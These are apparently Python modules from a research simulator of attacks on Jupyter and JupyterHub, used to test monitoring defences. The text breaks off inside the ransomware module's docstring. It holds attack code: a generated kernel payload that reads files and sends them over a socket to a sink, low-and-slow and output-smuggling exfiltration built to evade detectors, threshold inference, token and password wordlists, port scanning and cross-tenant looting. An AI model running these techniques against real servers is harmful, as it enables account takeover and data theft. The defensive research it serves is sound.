        if front is not None and tenant:
            return front(tenant)
        return self.scenario.server_host

    def _port(self) -> int:
        proxy = getattr(self.scenario, "proxy", None)
        if proxy is not None:
            return proxy.config.port
        return self.scenario.server.config.port

    def client(self, *, source: Host, tenant: str, token: str,
               username: str = "adversary") -> WebSocketKernelClient:
        prefix = f"/user/{tenant}" if tenant and \
            getattr(self.scenario, "proxy", None) is not None else ""
        return WebSocketKernelClient(
            source, self._front_door(tenant), port=self._port(),
            token=token, username=username, path_prefix=prefix)

    def _observe(self, event: FeedbackEvent) -> FeedbackEvent:
        self.events.append(event)
        if self._tele_on:
            self.telemetry.timeline.record(
                event.ts, "adversary.feedback", source=event.source,
                feedback=event.kind, tenant=event.tenant,
                status=event.status)
        return event

    # -- probes ---------------------------------------------------------------
    def probe(self, *, source: Host, tenant: str, token: str,
              path: str = "/api/status") -> FeedbackEvent:
        """One access check from ``source`` against ``tenant`` — costs a
        request and ~a second of simulated time, like any real canary."""
        self.probes += 1
        self.requests += 1
        client = self.client(source=source, tenant=tenant, token=token)
        try:
            resp = client.request("GET", path)
        except ReproError as e:
            return self._observe(FeedbackEvent(
                ts=self.scenario.clock.now(), kind="severed",
                source=source.ip, tenant=tenant, detail=str(e)))
        return self._observe(FeedbackEvent(
            ts=self.scenario.clock.now(),
            kind=classify(resp.status, resp.body or b""),
            source=source.ip, tenant=tenant, status=resp.status,
            detail=f"GET {path}", elapsed=client.last_elapsed,
            resp_bytes=client.last_response_bytes))

    def probe_front_door(self, *, source: Host, host: Host, token: str = "",
                         path: str = "/hub/api") -> FeedbackEvent:
        """One probe straight at a *published front door* rather than a
        tenant — the unauthenticated hub-API ping a timing fingerprinter
        calibrates per-shard latency floors with.  The host comes from
        the published shard list (opaque endpoints), not routing state."""
        self.probes += 1
        self.requests += 1
        client = WebSocketKernelClient(source, host, port=self._port(),
                                       token=token, username="adversary")
        try:
            resp = client.request("GET", path)
        except ReproError as e:
            return self._observe(FeedbackEvent(
                ts=self.scenario.clock.now(), kind="severed",
                source=source.ip, tenant="", detail=str(e)))
        return self._observe(FeedbackEvent(
            ts=self.scenario.clock.now(),
            kind=classify(resp.status, resp.body or b""),
            source=source.ip, tenant="", status=resp.status,
            detail=f"GET {path}", elapsed=client.last_elapsed,
            resp_bytes=client.last_response_bytes))

    def enumerate_tenants(self, *, source: Host, token: str,
                          max_guesses: int = 12) -> List[str]:
        """Tenant discovery through the hub API, falling back to a short
        username spray when the listing is refused.  Only names — no
        defender-side state leaks into the result."""
        import json as _json

        self.requests += 1
        client = self.client(source=source, tenant="", token=token)
        try:
            resp = client.request("GET", "/hub/api/users")
        except ReproError:
            return []
        if resp.status == 200:
            listing = _json.loads(resp.body or b"[]")
            return [u["name"] for u in listing if u.get("server_running")]
        from repro.attacks.hubpivot import DEFAULT_USERNAME_GUESSES

        found: List[str] = []
        for guess in DEFAULT_USERNAME_GUESSES[:max_guesses]:
            event = self.probe(source=source, tenant=guess, token=token)
            if event.kind in ("ok", "quarantined"):
                found.append(guess)
        return found

    # -- queries over the attacker-side log -----------------------------------
    def last_event(self) -> Optional[FeedbackEvent]:
        return self.events[-1] if self.events else None

    def events_of(self, kind: str) -> List[FeedbackEvent]:
        return [e for e in self.events if e.kind == kind]
