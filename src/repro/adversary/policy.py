"""The adversary's side of the spec: plain data, no live wiring.

:class:`AdversaryPolicy` rides inside a frozen
:class:`~repro.topology.spec.WorldSpec` exactly the way
:class:`~repro.soc.playbook.ResponsePolicy` does — it describes the
attacker population a topology faces (how many agents, which strategy,
what resources they start with, and the cost model that prices their
moves) without importing anything from the live attack/agent layers, so
the topology spec module stays light.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class AdversaryPolicy:
    """How a world's attackers adapt — a frozen field of ``WorldSpec``.

    Compiled by :class:`~repro.topology.builder.WorldBuilder` into
    attacker resources on the scenario (``adversary_pool`` source hosts,
    ``compromised_accounts`` credentials) and consumed by
    :class:`~repro.adversary.runner.ArmsRaceRunner`, which instantiates
    the agents and drives the duel.
    """

    #: Registered strategy name (``repro adversary --list``):
    #: ``static`` | ``source-rotation`` | ``low-and-slow`` |
    #: ``tenant-hop`` | ``decoy-wary``.
    strategy: str = "source-rotation"
    #: Campaign objective the agents pursue (``pivot`` | ``steal``).
    objective: str = "pivot"
    n_agents: int = 1
    #: Spare attacker hosts beyond the primary ``attacker_host`` — the
    #: pool source rotation burns through (203.0.113.100+i).
    source_pool_size: int = 3
    #: Tenant credentials the attacker starts with (modeling previously
    #: phished accounts) — what tenant-hop re-enters through.
    compromised_accounts: int = 2
    #: Sim-seconds the duel runs before the horizon ends it.
    horizon: float = 240.0
    #: Pause between an agent's turns (plus per-request time).
    think_time: float = 4.0
    #: Give up after this many consecutive failed recovery moves.  The
    #: recovery backoff doubles per attempt (capped), so the default
    #: rides out a ~90 s containment TTL before conceding.
    patience: int = 6
    #: Low-and-slow calibration: pace exfiltration at this fraction of
    #: the monitor's sustainable-rate floor (egress window rate and
    #: CUSUM drift allowance, whichever is lower).
    pacing_safety: float = 0.8
    # -- attacker cost model (the cost-per-exfiltrated-byte metric) -----------
    #: Burning a source IP costs this much (clean proxy infrastructure
    #: is the attacker's scarcest renewable).
    cost_per_source: float = 50.0
    #: Burning a compromised account costs more (phishing is slow).
    cost_per_account: float = 200.0
    #: Every request (probe or attack traffic) costs a little.
    cost_per_request: float = 0.1
