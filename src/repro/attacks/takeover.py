"""Account takeover (taxonomy: account takeover → exposed data,
inaccessible data, disruption).

- :class:`TokenBruteforceAttack` — guess access tokens over HTTP.  Noisy
  (403 storm); succeeds only against weak tokens.
- :class:`CredentialStuffingAttack` — replay a leaked password list
  against password auth.
- :class:`StolenTokenAttack` — the quiet one: a *valid* token used from
  attacker infrastructure.  No failures at all; only the new-source
  detector sees it.
"""

from __future__ import annotations

from typing import List, Optional, Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern

COMMON_TOKENS = [
    "", "admin", "password", "jupyter", "token", "123456", "letmein",
    "notebook", "secret", "test", "dev", "changeme", "root", "demo",
]

LEAKED_PASSWORDS = [
    "123456", "password", "hunter2", "qwerty", "iloveyou", "admin123",
    "welcome1", "sunshine", "monkey", "dragon", "jupyter2024", "science!",
]


class TokenBruteforceAttack(Attack):
    """Dictionary attack on the access token."""

    name = "token-bruteforce"
    avenue = Avenue.ACCOUNT_TAKEOVER
    technique = "token-bruteforce"

    def __init__(self, *, wordlist: Optional[List[str]] = None, delay: float = 0.5):
        self.wordlist = wordlist if wordlist is not None else COMMON_TOKENS
        self.delay = delay

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.attacker_client()
        found: Optional[str] = None
        attempts = 0
        for guess in self.wordlist:
            client.token = guess
            resp = client.request("GET", "/api/status")
            attempts += 1
            scenario.run(self.delay)
            if resp.status == 200:
                found = guess
                break
        concerns: Set[Concern] = set()
        loot = 0
        if found is not None:
            # Prove access: enumerate the victim's files.
            listing = client.json("GET", "/api/contents/")
            loot = len(listing.get("content") or [])
            concerns |= {Concern.EXPOSED_DATA, Concern.INACCESSIBLE_OR_INCORRECT_DATA,
                         Concern.DISRUPTION_OF_COMPUTING}
        return self._result(
            success=found is not None,
            concerns=concerns,
            narrative=(f"token {found!r} found after {attempts} guesses"
                       if found else f"no hit in {attempts} guesses"),
            attempts=attempts,
            token_found=found or "",
            entries_listed=loot,
        )


class CredentialStuffingAttack(Attack):
    """Leaked-password replay against password auth."""

    name = "credential-stuffing"
    avenue = Avenue.ACCOUNT_TAKEOVER
    technique = "credential-stuffing"

    def __init__(self, *, passwords: Optional[List[str]] = None, delay: float = 1.0):
        self.passwords = passwords if passwords is not None else LEAKED_PASSWORDS
        self.delay = delay

    def execute(self, scenario: Scenario) -> AttackResult:
        from repro.wire.http import HttpRequest, parse_response

        found = None
        attempts = 0
        for password in self.passwords:
            conn = scenario.attacker_host.connect(scenario.server_host,
                                                  scenario.server.config.port)
            responses = []
            buf = b""

            def on_data(data, responses=responses):
                nonlocal buf
                buf += data
                resp, rest = parse_response(buf)
                if resp:
                    responses.append(resp)
                    buf = rest

            conn.on_data_client = on_data
            req = HttpRequest("GET", "/api/status",
                              {"Host": "jupyter", "X-Jupyter-Password": password})
            conn.send_to_server(req.encode())
            scenario.run(self.delay)
            attempts += 1
            if responses and responses[0].status == 200:
                found = password
                break
            if conn.open:
                conn.close()
        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if found else set()
        return self._result(
            success=found is not None,
            concerns=concerns,
            narrative=(f"password {found!r} accepted after {attempts} tries"
                       if found else f"all {attempts} passwords rejected"),
            attempts=attempts,
        )


class StolenTokenAttack(Attack):
    """A leaked valid token used from new infrastructure — zero failures."""

    name = "stolen-token"
    avenue = Avenue.ACCOUNT_TAKEOVER
    technique = "stolen-token-session"

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.attacker_client(token=scenario.token)
        resp = client.request("GET", "/api/contents/")
        ok = resp.status == 200
        stolen_bytes = 0
        if ok:
            import json as _json

            listing = _json.loads(resp.body)
            for entry in listing.get("content") or []:
                if entry["type"] == "file":
                    model = client.json("GET", f"/api/contents/{entry['path']}")
                    stolen_bytes += len(str(model.get("content", "")))
        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if ok else set()
        return self._result(
            success=ok,
            concerns=concerns,
            narrative=f"stolen token accepted; browsed {stolen_bytes} bytes of content",
            bytes_browsed=stolen_bytes,
            source_ip=scenario.attacker_host.ip,
        )
