"""Data exfiltration (taxonomy: data exfiltration → exposed data).

Three techniques:

- :class:`ExfiltrationAttack` — bulk: read artifacts in the kernel,
  stream them to the attacker's sink in one burst.  Loud on the wire.
- :class:`LowAndSlowExfiltration` — the evasion variant from §IV.A:
  the same bytes leave in rate-shaped chunks over a long horizon,
  staying under windowed-volume thresholds.
- :class:`OutputSmugglingAttack` — no attacker connection at all: the
  data rides *back through Jupyter's own iopub channel* as oversized
  base64 execute_results, indistinguishable from plots to a naive flow
  monitor.
"""

from __future__ import annotations

import base64
from typing import List, Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern


def _read_and_send_code(paths: List[str], sink_ip: str, sink_port: int,
                        *, chunk: int = 0) -> str:
    """Kernel payload: read files, optionally chunk, send to the sink."""
    lines = [
        "import socket",
        "s = socket.socket()",
        f"s.connect(('{sink_ip}', {sink_port}))",
        "total = 0",
    ]
    for path in paths:
        lines.append(f"data = open('/{path}', 'rb').read()")
        if chunk > 0:
            lines += [
                f"for i in range(0, len(data), {chunk}):",
                f"    total += s.send(data[i:i + {chunk}])",
            ]
        else:
            lines.append("total += s.send(data)")
    lines.append("total")
    return "\n".join(lines)


class ExfiltrationAttack(Attack):
    """Bulk exfiltration of research artifacts."""

    name = "data-exfiltration"
    avenue = Avenue.DATA_EXFILTRATION
    technique = "bulk-egress"

    def __init__(self, *, targets: List[str] | None = None):
        self.targets = targets

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.user_client(username="attacker-via-stolen-session")
        scenario.audited_session(client)
        root = scenario.server.config.root_dir
        targets = self.targets or [
            p for p in scenario.server.fs.walk(root)
            if p.endswith((".bin", ".csv")) and ".ipynb_checkpoints" not in p
        ]
        total_size = sum(len(scenario.server.fs.read(p)) for p in targets)
        code = _read_and_send_code(targets, scenario.exfil_sink.host.ip,
                                   scenario.exfil_sink.port)
        reply = client.execute(code, wait=120.0)
        scenario.run(5.0)  # let in-flight bytes land
        received = scenario.exfil_sink.total_bytes()
        concerns: Set[Concern] = set()
        if received > 0:
            concerns.add(Concern.EXPOSED_DATA)
        return self._result(
            success=received >= total_size and total_size > 0,
            concerns=concerns,
            narrative=f"exfiltrated {received}/{total_size} bytes in bulk",
            bytes_exfiltrated=received,
            bytes_targeted=total_size,
            files=len(targets),
            status=(reply.content.get("status") if reply else "no-reply"),
        )


class LowAndSlowExfiltration(Attack):
    """Rate-shaped exfiltration under the volume threshold (paper §IV.A)."""

    name = "low-and-slow-exfiltration"
    avenue = Avenue.DATA_EXFILTRATION
    technique = "low-and-slow-egress"

    def __init__(self, *, bytes_per_burst: int = 800, interval_seconds: float = 15.0,
                 total_bytes: int = 60_000, jitter: float = 0.0):
        self.bytes_per_burst = bytes_per_burst
        self.interval_seconds = interval_seconds
        self.total_bytes = total_bytes
        self.jitter = jitter

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.user_client(username="attacker-via-stolen-session")
        scenario.audited_session(client)
        sink_ip = scenario.exfil_sink.host.ip
        sink_port = scenario.exfil_sink.port
        # Stage the target into kernel memory once, then drip it out.
        root = scenario.server.config.root_dir
        target = next(p for p in scenario.server.fs.walk(root) if p.endswith(".bin"))
        setup = (
            "import socket\n"
            f"data = open('/{target}', 'rb').read()\n"
            f"while len(data) < {self.total_bytes}:\n"
            "    data = data + data\n"
            f"data = data[:{self.total_bytes}]\n"
            "s = socket.socket()\n"
            f"s.connect(('{sink_ip}', {sink_port}))\n"
            "sent = 0"
        )
        reply = client.execute(setup, wait=60.0)
        if reply is None or reply.content.get("status") != "ok":
            return self._result(success=False, narrative="staging failed")
        bursts = self.total_bytes // self.bytes_per_burst
        rng = scenario.rng.child("lowslow")
        for i in range(bursts):
            burst = (
                f"chunk = data[sent:sent + {self.bytes_per_burst}]\n"
                "sent += s.send(chunk)"
            )
            client.execute(burst, wait=30.0)
            gap = self.interval_seconds
            if self.jitter > 0:
                gap = max(0.5, gap + rng.uniform(-self.jitter, self.jitter))
            scenario.run(gap)
        scenario.run(5.0)
        received = scenario.exfil_sink.total_bytes()
        concerns: Set[Concern] = set()
        if received > 0:
            concerns.add(Concern.EXPOSED_DATA)
        return self._result(
            success=received >= self.total_bytes,
            concerns=concerns,
            narrative=(f"dripped {received} bytes at {self.bytes_per_burst}B/"
                       f"{self.interval_seconds}s"),
            bytes_exfiltrated=received,
            bursts=bursts,
            effective_rate=self.bytes_per_burst / self.interval_seconds,
        )


class OutputSmugglingAttack(Attack):
    """Exfiltration through notebook outputs — data leaves via iopub."""

    name = "output-smuggling"
    avenue = Avenue.DATA_EXFILTRATION
    technique = "output-channel-smuggling"

    def __init__(self, *, target_suffix: str = ".bin"):
        self.target_suffix = target_suffix

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.user_client(username="attacker-via-stolen-session")
        scenario.audited_session(client)
        root = scenario.server.config.root_dir
        target = next((p for p in scenario.server.fs.walk(root)
                       if p.endswith(self.target_suffix)), None)
        if target is None:
            return self._result(success=False, narrative="no target found")
        code = (
            "import base64\n"
            f"raw = open('/{target}', 'rb').read()\n"
            "base64.b64encode(raw).decode()"
        )
        reply = client.execute(code, wait=60.0)
        results = [m for m in client.iopub if m.msg_type == "execute_result"]
        smuggled = b""
        if results:
            text = results[-1].content["data"]["text/plain"]
            try:
                smuggled = base64.b64decode(text.strip("'\""))
            except Exception:
                smuggled = b""
        original = scenario.server.fs.read(target)
        ok = smuggled == original
        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if ok else set()
        return self._result(
            success=ok,
            concerns=concerns,
            narrative=f"smuggled {len(smuggled)} bytes through execute_result",
            bytes_exfiltrated=len(smuggled),
            target=target,
        )
