"""Attacks on the defenders themselves (paper §IV.A, 'evasion attacks
against the integrity of security monitors').

- :class:`MonitorFloodAttack` — a volumetric DoS against the monitoring
  pipeline: push enough segments per second that a budget-constrained
  monitor drops traffic, then slip a payload through the gap.
- :class:`RuleInferenceAttack` — adversarial inference of detector
  thresholds: binary-search probe volumes while watching an oracle (in
  the wild: whether the connection gets cut / the account gets frozen;
  here: whether a notice fired), then exfiltrate just under the learned
  threshold.
"""

from __future__ import annotations

from typing import Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern


class MonitorFloodAttack(Attack):
    """Saturate the monitor's processing budget, then act during drops."""

    name = "monitor-flood"
    avenue = Avenue.ZERO_DAY
    technique = "monitor-dos"

    def __init__(self, *, flood_connections: int = 5, flood_bytes: int = 200_000,
                 payload_bytes: int = 50_000):
        self.flood_connections = flood_connections
        self.flood_bytes = flood_bytes
        self.payload_bytes = payload_bytes

    def execute(self, scenario: Scenario) -> AttackResult:
        drops_before = scenario.monitor.health.segments_dropped
        # Phase 1: noise. Hammer the sink with junk flows in one burst.
        for i in range(self.flood_connections):
            conn = scenario.attacker_host.connect(scenario.exfil_sink.host,
                                                  scenario.exfil_sink.port)
            conn.send_to_server(b"\x00" * self.flood_bytes)
        # Phase 2: payload, while the monitor is (maybe) drowning.
        payload_conn = scenario.attacker_host.connect(scenario.exfil_sink.host,
                                                      scenario.exfil_sink.port)
        payload_conn.send_to_server(b"P" * self.payload_bytes)
        scenario.run(10.0)
        drops = scenario.monitor.health.segments_dropped - drops_before
        return self._result(
            success=drops > 0,
            concerns={Concern.DISRUPTION_OF_COMPUTING} if drops > 0 else set(),
            narrative=f"monitor dropped {drops} segments under flood",
            segments_dropped=drops,
            drop_rate=scenario.monitor.health.drop_rate,
        )


class RuleInferenceAttack(Attack):
    """Binary-search the egress-volume threshold, then fly under it.

    The oracle is a fresh (src, dst) pair per probe so detector state
    does not leak across probes — the same trick real adversaries use by
    rotating source infrastructure.
    """

    name = "rule-inference"
    avenue = Avenue.DATA_EXFILTRATION
    technique = "rule-inference"

    def __init__(self, *, low: int = 1_000, high: int = 4_000_000, tolerance: int = 500):
        self.low = low
        self.high = high
        self.tolerance = tolerance

    def execute(self, scenario: Scenario) -> AttackResult:
        detector = scenario.monitor.egress
        probes = 0
        lo, hi = self.low, self.high

        def oracle(volume: int) -> bool:
            """Does sending `volume` bytes in one window trip the detector?"""
            nonlocal probes
            probes += 1
            src = f"10.9.{probes // 250}.{probes % 250}"  # rotated "infrastructure"
            before = len(detector.notices)
            t = scenario.clock.now() + probes * 1000.0  # disjoint windows
            detector.observe_bytes(t, src, "203.0.113.200", volume)
            return len(detector.notices) > before

        if not oracle(hi):
            return self._result(success=False, narrative="threshold above search range",
                                probes=probes)
        while hi - lo > self.tolerance:
            mid = (lo + hi) // 2
            if oracle(mid):
                hi = mid
            else:
                lo = mid
        inferred = hi
        true_threshold = detector.threshold_bytes
        error = abs(inferred - true_threshold) / true_threshold
        # Exploit: exfiltrate at 80% of the inferred threshold per window.
        safe_volume = int(inferred * 0.8)
        evaded = not oracle(safe_volume)
        concerns: Set[Concern] = {Concern.EXPOSED_DATA} if evaded else set()
        return self._result(
            success=error < 0.05 and evaded,
            concerns=concerns,
            narrative=(f"inferred threshold {inferred}B (true {true_threshold}B, "
                       f"{error:.1%} error) in {probes} probes; evasion={'ok' if evaded else 'caught'}"),
            probes=probes,
            inferred_threshold=inferred,
            true_threshold=true_threshold,
            relative_error=error,
        )
