"""Attack implementations for every avenue in the taxonomy.

Each attack is a program against the simulated deployment: it speaks the
same protocols a real intruder would (REST, WebSocket, kernel code,
terminal), so its side effects are visible to the monitor on the wire
and to the auditor in the kernel.  Results report the *observed* OSCRP
concerns, which the TAB1 benchmark reconciles with the declared
taxonomy.

- :mod:`repro.attacks.scenario` — the standard experiment world.
- :mod:`repro.attacks.ransomware` — encrypt-and-extort (kernel & REST variants).
- :mod:`repro.attacks.exfiltration` — bulk, low-and-slow, output smuggling.
- :mod:`repro.attacks.mining` — in-kernel cryptominer with stratum beacons.
- :mod:`repro.attacks.takeover` — token brute force, credential stuffing, stolen token.
- :mod:`repro.attacks.misconfig` — open-server scanning and exploitation.
- :mod:`repro.attacks.zeroday` — the signatureless stand-in.
- :mod:`repro.attacks.evasion` — monitor DoS and rule inference (paper §IV.A).
- :mod:`repro.attacks.hubpivot` — cross-tenant pivot through a
  misconfigured multi-tenant hub.
"""

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.attacks.ransomware import RansomwareAttack
from repro.attacks.exfiltration import (
    ExfiltrationAttack,
    LowAndSlowExfiltration,
    OutputSmugglingAttack,
)
from repro.attacks.mining import CryptominingAttack
from repro.attacks.takeover import (
    CredentialStuffingAttack,
    StolenTokenAttack,
    TokenBruteforceAttack,
)
from repro.attacks.misconfig import OpenServerExploitAttack, OpenServerScanAttack
from repro.attacks.zeroday import ZeroDayAttack
from repro.attacks.evasion import MonitorFloodAttack, RuleInferenceAttack
from repro.attacks.hubpivot import CrossTenantPivotAttack

__all__ = [
    "Attack",
    "AttackResult",
    "Scenario",
    "RansomwareAttack",
    "ExfiltrationAttack",
    "LowAndSlowExfiltration",
    "OutputSmugglingAttack",
    "CryptominingAttack",
    "TokenBruteforceAttack",
    "CredentialStuffingAttack",
    "StolenTokenAttack",
    "OpenServerScanAttack",
    "OpenServerExploitAttack",
    "ZeroDayAttack",
    "MonitorFloodAttack",
    "RuleInferenceAttack",
    "CrossTenantPivotAttack",
]
