"""Security misconfiguration attacks (taxonomy: misconfiguration →
exposed data, disruption).

The internet-scan reality the paper alludes to: crawlers sweep address
space for Jupyter's ports, fingerprint ``/api``, and fully exploit any
server that answers without credentials — the ``--ip=0.0.0.0 --token=''``
deployments that periodically make the news at universities.
"""

from __future__ import annotations

import json
from typing import Dict, List, Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern
from repro.util.errors import ReproError
from repro.wire.http import HttpRequest, parse_response

JUPYTER_PORTS = [8888, 8889, 8890, 8080, 8000, 8081, 9999, 8899]


class OpenServerScanAttack(Attack):
    """Sweep hosts/ports for exposed Jupyter servers."""

    name = "open-server-scan"
    avenue = Avenue.MISCONFIGURATION
    technique = "open-server-scan"

    def __init__(self, *, ports: List[int] | None = None, probe_delay: float = 0.2):
        self.ports = ports if ports is not None else JUPYTER_PORTS
        self.probe_delay = probe_delay

    def execute(self, scenario: Scenario) -> AttackResult:
        open_servers: List[str] = []
        probes = 0
        for host in list(scenario.network.hosts.values()):
            if host is scenario.attacker_host:
                continue
            for port in self.ports:
                probes += 1
                scenario.run(self.probe_delay)
                try:
                    conn = scenario.attacker_host.connect(host, port)
                except ReproError:
                    continue
                # Fingerprint: unauthenticated GET /api returns the version.
                responses = []
                buf = b""

                def on_data(data):
                    nonlocal buf
                    buf += data
                    resp, rest = parse_response(buf)
                    if resp:
                        responses.append(resp)
                        buf = rest

                conn.on_data_client = on_data
                conn.send_to_server(HttpRequest("GET", "/api", {"Host": host.ip}).encode())
                scenario.run(0.5)
                if responses and responses[0].status == 200 and b"version" in responses[0].body:
                    open_servers.append(f"{host.ip}:{port}")
                if conn.open:
                    conn.close()
        return self._result(
            success=bool(open_servers),
            concerns=set(),  # recon alone exposes nothing yet
            narrative=f"{probes} probes, fingerprinted {len(open_servers)} Jupyter servers",
            probes=probes,
            servers_found=open_servers,
        )


class OpenServerExploitAttack(Attack):
    """Full exploitation of a token-less server: read everything, run code."""

    name = "open-server-exploit"
    avenue = Avenue.MISCONFIGURATION
    technique = "unauthenticated-api-abuse"

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.attacker_client(token="")  # no credentials at all
        resp = client.request("GET", "/api/contents/")
        if resp.status != 200:
            return self._result(
                success=False,
                narrative=f"server requires auth (status {resp.status})",
                status=resp.status,
            )
        listing = json.loads(resp.body)
        stolen: Dict[str, int] = {}
        for entry in listing.get("content") or []:
            if entry["type"] != "directory":
                model = client.json("GET", f"/api/contents/{entry['path']}")
                stolen[entry["path"]] = len(str(model.get("content", "")))
        # Prove code execution: start a kernel and run a cell.
        ran_code = False
        try:
            client.start_kernel()
            client.connect_channels()
            reply = client.execute("1 + 1")
            ran_code = reply is not None and reply.content.get("status") == "ok"
        except Exception:
            ran_code = False
        concerns: Set[Concern] = {Concern.EXPOSED_DATA}
        if ran_code:
            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
        return self._result(
            success=True,
            concerns=concerns,
            narrative=f"unauthenticated: read {len(stolen)} entries, code exec={ran_code}",
            entries_read=len(stolen),
            bytes_read=sum(stolen.values()),
            code_execution=ran_code,
        )
