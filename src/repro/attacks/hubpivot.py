"""Cross-tenant pivot through a multi-tenant hub.

The fleet-scale campaign the hub subsystem exists to study: compromise
*one* account (stolen token, §account-takeover), then ride hub-level
misconfiguration sideways into every other tenant.  Two doors open the
pivot:

- **shared API token** (``per_user_tokens=False``): the stolen token is
  everyone's token — and the hub's, so ``/hub/api/users`` enumerates the
  victim list for free;
- **proxy auth bypass** (``proxy_auth_required=False``): the proxy
  relays any request to any ``/user/<name>/`` prefix unchecked, and the
  attacker falls back to spraying guessed usernames.

Against a correctly configured hub (per-user tokens, proxy auth on) the
same campaign dies at the proxy with a 403 storm — the contrast the
hub-misconfiguration benchmark measures.  On the wire, the sweep is one
source fanning out across many ``/user/<name>`` prefixes, which is
exactly what the monitor's :class:`~repro.monitor.anomaly.TenantSweepDetector`
keys on at the proxy tap.
"""

from __future__ import annotations

import json
from typing import Collection, List, Optional, Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.server.gateway import WebSocketKernelClient
from repro.taxonomy.oscrp import Avenue, Concern

#: Fallback username spray when the hub refuses enumeration.
DEFAULT_USERNAME_GUESSES = [f"user{i:02d}" for i in range(20)] + [
    "admin", "alice", "bob", "jovyan", "test", "demo",
]


class CrossTenantPivotAttack(Attack):
    """Enumerate hub tenants and loot every server the token opens."""

    name = "cross-tenant-pivot"
    avenue = Avenue.ACCOUNT_TAKEOVER
    technique = "hub-shared-token-pivot"

    def __init__(self, *, token: str = "", username_guesses: Optional[List[str]] = None,
                 max_tenants: int = 0, request_delay: float = 0.5,
                 targets: Optional[List[str]] = None,
                 avoid: Collection[str] = ()):
        self.token = token
        self.username_guesses = username_guesses
        self.max_tenants = max_tenants
        self.request_delay = request_delay
        #: Pre-selected tenant list: skip enumeration entirely and sweep
        #: exactly these (how a re-planning adversary loots one tenant at
        #: a time with a canary probe between touches).
        self.targets = list(targets) if targets is not None else None
        #: Tenants the attacker refuses to touch — the decoy-wary
        #: strategy feeds previously-burned honeypot names here.
        self.avoid = set(avoid)

    # -- helpers --------------------------------------------------------------
    def _tenant_client(self, scenario: Scenario, tenant: str,
                       token: str) -> WebSocketKernelClient:
        proxy = getattr(scenario, "proxy", None)
        assert proxy is not None
        # Each tenant is reached at its canonical front door — on a
        # sharded hub that is the consistent-hash-assigned shard, which
        # spreads the sweep across every shard's tap.
        front_door = getattr(scenario, "front_door_host", None)
        host = front_door(tenant) if front_door is not None else scenario.server_host
        return WebSocketKernelClient(
            scenario.attacker_host, host, port=proxy.config.port,
            token=token, username="pivot", path_prefix=f"/user/{tenant}")

    def _enumerate(self, scenario: Scenario, token: str) -> List[str]:
        """Tenant discovery: hub listing first, username spray second."""
        client = self._tenant_client(scenario, "x", token)
        resp = client.request("GET", "/hub/api/users")
        if resp.status == 200:
            listing = json.loads(resp.body or b"[]")
            return [u["name"] for u in listing if u.get("server_running")]
        rng = scenario.rng.child("hubpivot-spray")
        guesses = self.username_guesses or DEFAULT_USERNAME_GUESSES
        found: List[str] = []
        for guess in guesses:
            probe = self._tenant_client(scenario, guess, token)
            status = probe.request("GET", "/api/status").status
            scenario.run(self.request_delay * rng.uniform(0.5, 1.8))
            if status in (200, 503):  # 503 = exists but not running
                found.append(guess)
        return found

    def _loot(self, client: WebSocketKernelClient, *, max_depth: int = 2) -> int:
        """Pull every file reachable within ``max_depth`` of a tenant's
        root; returns bytes read."""
        stolen = 0

        def walk(path: str, depth: int) -> None:
            nonlocal stolen
            listing = client.json("GET", f"/api/contents/{path}")
            for entry in listing.get("content") or []:
                if entry.get("type") == "directory" and depth < max_depth:
                    walk(entry["path"], depth + 1)
                elif entry.get("type") in ("file", "notebook"):
                    model = client.json("GET", f"/api/contents/{entry['path']}")
                    stolen += len(str(model.get("content", "")))

        walk("", 0)
        return stolen

    # -- execution ------------------------------------------------------------
    def execute(self, scenario: Scenario) -> AttackResult:
        if getattr(scenario, "proxy", None) is None:
            return self._result(success=False,
                                narrative="no hub in this scenario — nothing to pivot across")
        token = self.token or scenario.token
        rng = scenario.rng.child("hubpivot")
        tenants = (list(self.targets) if self.targets is not None
                   else self._enumerate(scenario, token))
        if self.avoid:
            tenants = [t for t in tenants if t not in self.avoid]
        if self.max_tenants > 0:
            tenants = tenants[: self.max_tenants]
        accessed: List[str] = []
        denied = 0
        stolen_bytes = 0
        for tenant in tenants:
            client = self._tenant_client(scenario, tenant, token)
            resp = client.request("GET", "/api/contents/")
            # Jittered pacing, like a tooled attacker avoiding timing tells.
            scenario.run(self.request_delay * rng.uniform(0.5, 1.8))
            if resp.status != 200:
                denied += 1
                continue
            accessed.append(tenant)
            try:
                stolen_bytes += self._loot(client)
            except Exception:
                pass
        # The pivot only counts if we got past our own account.
        pivoted = [t for t in accessed if t != getattr(scenario, "default_tenant", "")]
        concerns: Set[Concern] = set()
        if pivoted:
            concerns |= {Concern.EXPOSED_DATA, Concern.DISRUPTION_OF_COMPUTING}
        return self._result(
            success=bool(pivoted),
            concerns=concerns,
            narrative=(f"pivoted into {len(pivoted)} of {len(tenants)} tenants, "
                       f"read {stolen_bytes} bytes ({denied} denied)"),
            tenants_enumerated=len(tenants),
            tenants_accessed=len(accessed),
            tenants_pivoted=len(pivoted),
            requests_denied=denied,
            bytes_browsed=stolen_bytes,
            source_ip=scenario.attacker_host.ip,
        )
