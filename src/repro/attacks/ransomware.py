"""Ransomware against notebook storage (taxonomy: ransomware →
inaccessible/incorrect data, disruption of computing).

Two delivery variants, matching how real campaigns have hit Jupyter:

- ``via="kernel"`` — the payload runs as cell code: enumerate the home
  tree, encrypt every artifact with ChaCha20, rename to ``.locked``,
  drop the note.  Visible to the *kernel auditor* (mass-overwrite
